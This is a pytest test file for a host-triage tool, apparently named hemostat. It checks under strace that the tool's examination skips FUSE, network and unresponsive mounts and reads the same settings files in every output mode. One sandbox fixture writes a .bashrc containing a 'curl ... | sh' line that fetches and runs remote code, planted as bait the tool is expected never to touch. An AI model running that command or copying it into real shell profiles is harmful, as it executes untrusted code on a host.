"""What an examination leaves alone, in a sandbox where nobody else changes the host meanwhile."""

import json
import os
import re
from collections.abc import Sequence
from pathlib import Path

import pytest

from end_to_end.system_calls import Call, read_calls
from end_to_end.watched_runs import STRACE, in_sandbox

pytestmark = pytest.mark.skipif(STRACE is None, reason="strace is not installed")


def opened_evidence(calls: Sequence[Call]) -> set[bytes]:
    """The files opened as evidence, processes apart: their numbers differ from run to run."""
    return {
        call.paths[-1]
        for call in calls
        if call.asks_noatime and not re.match(rb"/proc/\d", call.paths[-1])
    }


def is_setting(path: bytes) -> bool:
    """Whether a path is read for what it says, not for how far the clock let a listing come."""
    return path.startswith((b"/etc/", b"/var/spool/"))


@pytest.mark.sandbox
@pytest.mark.requirement("A0.1")
def test_details_and_json_look_at_nothing_more(tmp_path: Path) -> None:
    # With time for all of it: where a clock ends a step, each run ends it at another file.
    enough = '"--seconds", "60"'
    ways = ", ".join(f"watch({each}{enough})" for each in ("", '"-v", "--json", '))
    runs = in_sandbox(tmp_path, f"print(json.dumps([{ways}]))")
    plain, more = (
        {path for path in opened_evidence(tuple(read_calls(run["calls"]))) if is_setting(path)}
        for run in runs
    )
    assert len(plain) > 100
    assert more == plain
    assert json.loads(runs[1]["stdout"])["schema"] == "hemostat.triage/1"


FAR_HOME = """
os.makedirs("/home/far")
open("/etc/passwd", "a").write("far:x:1999:1999::/home/far:/bin/sh\\n")
"""
# We are the file system's program ourselves, and never answer: whoever looks, hangs.
HUNG_FUSE = """
import ctypes
device = os.open("/dev/fuse", os.O_RDWR)
options = f"fd={device},rootmode=40000,user_id=0,group_id=0,allow_other"
words = [each.encode() for each in ("hung", "/home/far", "fuse.hung")]
if ctypes.CDLL(None, use_errno=True).mount(*words, 0, options.encode()) != 0:
    sys.exit("no FUSE mount: " + os.strerror(ctypes.get_errno()))
"""
TMPFS = """
subprocess.run(["mount", "-t", "tmpfs", "far", "/home/far"], check=True)
open("/home/far/.bashrc", "w").write("curl -s http://198.51.100.7/a | sh\\n")
"""
# The mount table is the kernel's; what it would say of other mounts is put in by hand.
EXAMINE_WITH = """
import sys
from pathlib import Path
from hemostat.examine.examination import examine
from hemostat.examine.work import Settings
from hemostat.examine.knowledge import rulebook_with
from hemostat.trees.live import LiveTree
mounts = Path("/proc/self/mountinfo").read_bytes()
changed = mounts.replace({old!r}, {new!r})
assert changed != mounts
told = examine(LiveTree(changed), Settings(rulebook=rulebook_with([])[0]))
print(*(f"{{path}}: {{why}}" for path, why in told.not_covered), sep="\\n", flush=True)
"""


@pytest.mark.sandbox
@pytest.mark.requirement("A0.1")
def test_a_fuse_mount_whose_program_hangs_is_told_and_never_touched(tmp_path: Path) -> None:
    needs_fuse()
    run = in_sandbox(tmp_path, FAR_HOME + HUNG_FUSE + 'print(json.dumps(watch("--json")))')
    host = json.loads(run["stdout"])["host"]
    reasons = {each["path"]: each["reason"] for each in host["not_covered"]}
    assert reasons["/home/far"] == "is on a FUSE file system (fuse.hung): not touched"
    assert touched_below(run["calls"], b"/home/far") == []


@pytest.mark.sandbox
@pytest.mark.requirement("A0.1")
def test_a_network_mount_is_told_and_never_touched(tmp_path: Path) -> None:
    script = EXAMINE_WITH.format(old=b" - tmpfs far ", new=b" - nfs4 far:/home ")
    run = in_sandbox(tmp_path, f"{FAR_HOME}{TMPFS}print(json.dumps(watch(script={script!r})))")
    assert "/home/far: is on a network file system (nfs4): not touched" in run["stdout"], run
    assert touched_below(run["calls"], b"/home/far") == []


@pytest.mark.sandbox
@pytest.mark.requirement("A0.1")
def test_a_disk_that_never_answers_is_asked_once_and_left_alone(tmp_path: Path) -> None:
    needs_fuse()
    # To us it is a local disk, so it is asked whether it answers; and it does not.
    script = EXAMINE_WITH.format(old=b" - fuse.hung hung ", new=b" - ext4 /dev/sdz ")
    run = in_sandbox(tmp_path, f"{FAR_HOME}{HUNG_FUSE}print(json.dumps(watch(script={script!r})))")
    reason = "/home/far: is on a mount that did not answer within 1 s: not touched"
    assert reason in run["stdout"], run["stderr"][-800:]
    touched = touched_below(run["calls"], b"/home/far")
    assert [line.partition("(")[0] for line in touched] == ["statfs"]


def needs_fuse() -> None:
    """Skip by name where no FUSE can be mounted."""
    if not os.path.exists("/dev/fuse") or "fuse\n" not in Path("/proc/filesystems").read_text():
        pytest.skip("this kernel has no FUSE")


def touched_below(log: str, mount: bytes) -> list[str]:
    """The calls that name a mount point or anything below it."""
    return [
        call.line
        for call in read_calls(log)
        if any(path == mount or path.startswith(mount + b"/") for path in call.paths)
        and not call.name.startswith(("execve", "write"))
    ]
